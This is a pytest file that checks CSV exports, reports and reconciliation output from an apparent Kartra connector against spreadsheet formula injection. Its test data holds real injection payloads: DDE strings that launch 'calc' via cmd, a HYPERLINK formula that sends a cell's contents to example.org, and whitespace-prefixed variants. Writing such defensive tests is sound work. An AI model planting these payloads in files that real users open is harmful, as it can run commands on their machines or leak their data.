"""What somebody calls himself is carried out by no spreadsheet that opens an export."""

import csv
import io

import pytest

from connectors.kartra.sandbox import Account, Sandbox, Transaction
from tests.conftest import Project
from tests.pull.accounts import write_pull
from tests.tables.exports import exported, write_export

FORMULAS = [
    '=HYPERLINK("http://example.org/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
]
PLAIN = ["Ann", "O'Hara", "5 = 4 + 1", "a-b", "", "-12.50", "+43 1", "İ=1"]


@pytest.fixture
def pulled(project: Project) -> Project:
    account = Account(products={"1": 1})
    for number, name in enumerate([*FORMULAS, *PLAIN, "Jo;=cmd|' /C calc'!A0"]):
        lead = account.add_lead(f"lead{number}@example.org", first_name=name)
        account.add_transaction(
            Transaction(lead.id, product_name=name, product_id=str(number + 1), date="2026-10-01 10:00:00")
        )
    write_pull(project, account)
    with Sandbox(account, calls_per_second=0) as sandbox:
        project.aim(sandbox)
        assert project.run().code == 0
    return project


def starts_a_formula(cell: str) -> bool:
    """As spreadsheets do, which take numbers for numbers."""
    try:
        float(cell)
    except ValueError:
        return cell.strip()[:1] in tuple("=+-@＝＋－＠")
    return False


def names(project: Project, folder: str) -> dict[str, str]:
    with (project.folder / folder / "leads.csv").open(encoding="utf-8", newline="") as lines:
        return {row["email"]: row["first_name"] for row in csv.DictReader(lines)}


def test_no_cell_of_an_export_is_a_formula_and_all_else_is_as_it_was(pulled: Project) -> None:
    assert pulled.command("export", "p.yaml", "--to", "safe", "--reports").code == 0
    assert pulled.command("export", "p.yaml", "--to", "exact", "--exact").code == 0
    for path in sorted((pulled.folder / "safe").iterdir()):
        text = path.read_text(encoding="utf-8")
        assert not [
            cell
            for row in csv.reader(io.StringIO(text, newline=""))
            for cell in row
            if starts_a_formula(cell)
        ], path.name
        for line in csv.reader(io.StringIO(text, newline=""), delimiter=";"):  # as some countries open it
            assert not [cell for cell in line if starts_a_formula(cell)], path.name
    safe, exact = names(pulled, "safe"), names(pulled, "exact")
    changed = {address for address in safe if safe[address] != exact[address]}
    assert all(safe[address].replace("'", "") == exact[address].replace("'", "") for address in changed)
    assert len(changed) == len(FORMULAS) + 2  # Jo, and a phone number, which looks like a formula
    assert sorted(exact.values()) == sorted([*FORMULAS, *PLAIN, "Jo;=cmd|' /C calc'!A0"])


def test_the_default_has_a_name_too(pulled: Project) -> None:
    assert pulled.command("export", "p.yaml", "--to", "safe").code == 0
    assert pulled.command("export", "p.yaml", "--to", "named", "--for-spreadsheets").code == 0
    assert names(pulled, "safe") == names(pulled, "named")


def test_reports_as_csv_hold_no_formula_unless_they_are_to_be_exact(pulled: Project) -> None:
    safe = pulled.command("report", "p.yaml", "revenue-by-product", "--csv")
    exact = pulled.command("report", "p.yaml", "revenue-by-product", "--csv", "--exact")
    cells = [cell for row in csv.reader(io.StringIO(safe.stdout, newline="")) for cell in row]
    assert not [cell for cell in cells if starts_a_formula(cell)]
    assert FORMULAS[0] in {row[1] for row in csv.reader(io.StringIO(exact.stdout, newline=""))}


def test_what_does_not_agree_is_listed_without_formulas(pulled: Project) -> None:
    sale = Transaction("1", id="900001", date="2026-10-01 10:00:00", buyer={"email": "a@example.org"})
    write_export(
        pulled.folder / "sales.csv", [exported(sale), exported(sale, Transaction_Type="=1+1", ID="900002")]
    )
    pulled.command("reconcile", "p.yaml", "sales.csv", "--csv", "gaps.csv")
    with (pulled.folder / "gaps.csv").open(encoding="utf-8", newline="") as handle:
        assert not [cell for row in csv.reader(handle) for cell in row if starts_a_formula(cell)]
